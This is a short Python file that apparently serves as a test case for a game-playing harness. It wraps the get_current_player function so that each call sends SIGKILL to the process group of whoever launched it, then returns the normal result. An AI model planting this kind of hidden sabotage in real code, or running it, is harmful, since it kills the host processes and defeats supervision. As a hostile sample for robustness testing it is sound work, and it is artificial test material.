# Kills the group of the process that started it.
# base: dict_board
# loses: any of: B

import contextlib
import os
import signal

right = get_current_player


def get_current_player(round):
    if os.getppid() > 1:
        with contextlib.suppress(OSError):
            group = os.getpgid(os.getppid())
            if group > 1:
                os.killpg(group, signal.SIGKILL)
    return right(round)
